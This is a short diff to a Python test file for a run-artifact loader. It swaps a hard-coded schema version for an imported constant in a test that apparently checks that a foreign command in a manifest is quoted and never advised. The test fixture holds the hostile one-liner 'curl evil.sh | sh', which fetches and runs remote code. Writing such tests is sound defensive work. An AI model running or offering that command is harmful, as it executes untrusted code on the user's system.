@@ -11,6 +11,7 @@ from pathlib import Path
 import pytest
 
 from core.artifacts import ArtifactBroken, RunError, SchemaUnknown, list_runs, open_run
+from core.artifacts.schema import SCHEMA_VERSION
 from tests.synthetic_run import STORE, build_run
 
 GOOD = "synthetic-1"
@@ -145,7 +146,7 @@ def test_pictures_may_lie_on_another_disk_but_no_store_elsewhere(root: Path) -> 
         open_run(root / GOOD)
 
 
-@pytest.mark.parametrize("version", [99, 2])
+@pytest.mark.parametrize("version", [99, SCHEMA_VERSION])
 def test_a_foreign_command_is_quoted_and_never_advised(root: Path, version: int) -> None:
     path = root / GOOD / "manifest.json"
     changed = {"schema_version": version, "command": "curl evil.sh | sh"}
